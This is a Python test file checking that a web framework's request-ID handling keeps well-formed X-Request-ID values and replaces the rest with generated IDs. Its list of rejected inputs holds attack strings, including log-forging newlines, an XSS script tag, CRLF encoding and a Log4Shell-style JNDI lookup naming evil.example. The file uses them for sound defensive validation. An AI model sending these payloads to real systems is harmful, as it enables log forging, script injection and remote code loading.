"""Which incoming X-Request-ID values are kept, and what replaces the others."""

from __future__ import annotations

import os
import re
import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pyramid_deferred.request_id import (
    MAX_REQUEST_ID_LENGTH,
    REQUEST_ID_ENVIRON_KEY,
    is_sane_request_id,
    new_request_id,
    request_id_of,
)

ALLOWED = string.ascii_letters + string.digits + "-_.@:"
VISIBLE_ASCII = "".join(chr(code) for code in range(0x21, 0x7F))


GENERATED = re.compile(r"[0-9a-f]{12}-[0-9a-f]+")
"""The process's random prefix (48 bits), then a counter."""


def test_a_generated_id_is_the_process_prefix_and_a_counter_and_sane():
    generated = [new_request_id() for _ in range(1000)]
    assert all(GENERATED.fullmatch(rid) and is_sane_request_id(rid) for rid in generated)
    assert len(set(generated)) == 1000 and len({rid.split("-")[0] for rid in generated}) == 1


def test_a_new_id_costs_no_system_call(monkeypatch):
    def no_syscall(size: int) -> bytes:
        raise AssertionError("os.urandom called for a request id")

    monkeypatch.setattr(os, "urandom", no_syscall)
    assert GENERATED.fullmatch(new_request_id())


def test_a_forked_worker_draws_its_own_prefix():
    read, write = os.pipe()
    parent = new_request_id().split("-")[0]
    pid = os.fork()
    if pid == 0:  # the child: its first id, then out without running the parent's cleanup
        os.write(write, new_request_id().encode())
        os._exit(0)
    os.close(write)
    child = os.read(read, 100).decode()
    os.waitpid(pid, 0)
    os.close(read)
    assert GENERATED.fullmatch(child) and child.split("-")[0] != parent


@pytest.mark.parametrize(
    "value",
    [
        "abc", "0f3c2a", "req-123_ABC.x:y", "5f84c7a3-3f5e-4e8b-bc6d-5e4f3a2b1c0d", "edge-7f3a.1",
        "worker@host:42", "a" * MAX_REQUEST_ID_LENGTH,
    ],
)
def test_ids_proxies_send_are_kept(value):
    assert is_sane_request_id(value)
    assert request_id_of({REQUEST_ID_ENVIRON_KEY: value}) == value


@pytest.mark.parametrize(
    "value",
    [
        "",
        "a" * (MAX_REQUEST_ID_LENGTH + 1),
        "two words",
        "line\nERROR forged",
        "ends-with-newline\n",
        "tab\there",
        "caf\u00e9",
        "\x00",
        "req|ERROR|forged",  # the log format's field separator
        "<script>alert(1)</script>",
        "${jndi:ldap://evil.example/a}",
        "Root=1-5f84c7a3",  # "=" is not in the pattern either: a new id, not a cleaned one
        "x%0d%0aforged",
        "١٢٣",  # Arabic-Indic digits: digits to str.isdigit(), not to the pattern
    ],
)
def test_ids_outside_the_pattern_are_replaced_by_a_new_one(value):
    assert not is_sane_request_id(value)
    replaced = request_id_of({REQUEST_ID_ENVIRON_KEY: value})
    assert replaced != value and GENERATED.fullmatch(replaced) and is_sane_request_id(replaced)


@given(st.text(alphabet=ALLOWED, min_size=1, max_size=MAX_REQUEST_ID_LENGTH))
def test_any_id_of_letters_digits_and_the_five_marks_within_the_bound_is_kept(value):
    assert is_sane_request_id(value)


@given(st.text(min_size=1, max_size=40).filter(lambda text: any(char not in ALLOWED for char in text)))
def test_an_id_with_any_other_character_is_refused(value):
    assert not is_sane_request_id(value)


def test_the_visible_ascii_the_pattern_leaves_out():
    """What an id could carry before: each of these is now refused on its own."""
    refused = [char for char in VISIBLE_ASCII if not is_sane_request_id(f"id{char}1")]
    assert "".join(refused) == "".join(char for char in VISIBLE_ASCII if char not in ALLOWED)
    assert {"|", "<", ">", "$", "{", "}", "=", "%", "\\", '"', "'"} <= set(refused)


def test_an_app_that_does_not_trust_the_header_always_makes_a_new_id():
    environ = {REQUEST_ID_ENVIRON_KEY: "edge-7f3a.1"}
    assert request_id_of(environ, trust_header=True) == "edge-7f3a.1"
    untrusted = request_id_of(environ, trust_header=False)
    assert untrusted != "edge-7f3a.1" and GENERATED.fullmatch(untrusted)
